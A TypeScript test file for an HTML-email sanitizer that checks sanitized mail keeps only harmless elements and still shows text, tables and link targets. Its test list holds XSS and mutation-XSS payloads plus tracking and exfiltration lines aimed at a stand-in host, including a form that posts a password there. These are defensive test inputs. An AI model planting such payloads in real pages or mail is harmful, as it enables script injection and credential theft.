import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { defaultTreeAdapter, html as parse5Html, parseFragment } from 'parse5';
import { shownHtml } from '../../src/desk/intake/message/html/shown.ts';

const shown = (html: string): string => shownHtml(html, (text) => text).html;

/** All elements and attributes of what is shown, as a browser would read it. */
function partsOf(html: string): string[] {
  const parts: string[] = [];
  const walk = (node: ReturnType<typeof defaultTreeAdapter.createDocumentFragment>['childNodes'][number]): void => {
    if (!('tagName' in node)) return;
    parts.push(node.tagName, ...node.attrs.map(({ name }) => `@${name}`));
    if (node.namespaceURI !== parse5Html.NS.HTML) parts.push('!foreign');
    for (const child of node.childNodes) walk(child);
  };
  for (const child of parseFragment(html).childNodes) walk(child);
  return parts;
}

const harmless =
  /^(?:a|abbr|address|b|blockquote|br|caption|cite|code|d[dlt]|del|div|em|h[1-6]|hr|i|ins|kbd|li|ol|p|pre|q|s|samp|small|span|strong|su[bp]|table|tbody|t[dhr]|tfoot|thead|u|ul|@(?:dir|title|start|colspan|rowspan))$/u;

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<p onclick="alert(1)">x</p>',
  '<img src="https://spy.example/1.gif" onerror=alert(1)>',
  '<img srcset="https://spy.example/1.gif 2x" alt="&lt;script&gt;">',
  '<picture><source srcset="//spy.example/x"><img></picture>',
  '<form action="https://spy.example"><input name=password><button>Send</button></form>',
  '<meta http-equiv=refresh content="0;url=https://spy.example">',
  '<base href="https://spy.example/">',
  '<link rel=stylesheet href="https://spy.example/x.css">',
  '<style>@import url(https://spy.example/x.css); p{background:url(//spy.example)}</style>',
  '<p style="background:url(https://spy.example/x)">x</p>',
  '<table background="https://spy.example/x"><tr><td background="//spy.example">x',
  '<svg><script>alert(1)</script><image href="https://spy.example/x"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="https://spy.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://spy.example"><embed src="https://spy.example"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="https://spy.example" ping="https://spy.example/p" target=_top title=\'" onmouseover="x\'>x</a>',
  '<textarea></textarea><title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>',
  '<video poster="https://spy.example"><audio src="https://spy.example"></audio></video>',
  '<div><template><script>alert(1)</script></template></div>',
  '<body background="https://spy.example" onload=alert(1)>x',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<img src="cid:logo@x"><v:imagedata src="https://spy.example"/>',
];

test('an HTML mail is shown as text with form: nothing that runs, loads, sends or leads anywhere is left', () => {
  for (const attack of attacks) {
    const html = shown(attack);
    for (const part of partsOf(html)) assert.match(part, harmless, `${attack}\n${html}`);
  }
});

test('whatever is put together of such pieces, in any order, the same holds', () => {
  const pieces = [
    '<',
    '>',
    '"',
    "'",
    '<!--',
    '-->',
    '</',
    'svg',
    'math',
    'style',
    'script',
    '<p>',
    '</p>',
    '<table>',
    '<a ',
    'href=',
    'x',
    ...attacks,
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) =>
      partsOf(shown(parts.join(''))).every((part) => harmless.test(part)),
    ),
    { numRuns: 2_000 },
  );
});

test('what a reader needs stays: paragraphs, tables, lists, and where a link leads', () => {
  assert.equal(
    shown('<p>Hello <b>Jane</b></p><ol start=3><li>one</ol>'),
    '<p>Hello <b>Jane</b></p><ol start="3"><li>one</li></ol>',
  );
  assert.equal(
    shown('<a href="https://a.example/?x=1&y=2">here</a>'),
    '<a title="https://a.example/?x=1&#38;y=2">here</a>',
  );
  const { html, leftOut } = shownHtml('<img src=x alt="Our logo"><img src=y>', (text) => text);
  assert.deepEqual([html, leftOut], ['[Our logo]', { images: 2, links: 0, other: 0 }]);
});

test('license keys are masked in texts, in links and in the names of pictures', () => {
  const mask = (text: string): string => text.replaceAll('WFC-SECRET', '…CRET');
  const { html } = shownHtml(
    '<p>WFC-SECRET<a href="https://x.example/WFC-SECRET">x</a><img alt="WFC-SECRET"></p>',
    mask,
  );
  assert.ok(!html.includes('SECRET') && html.includes('…CRET'));
});

test('nesting without end is cut, told, and costs no stack', () => {
  const html = shown('<div>'.repeat(100_000));
  assert.match(html, /\[The HTML has more than/u);
});
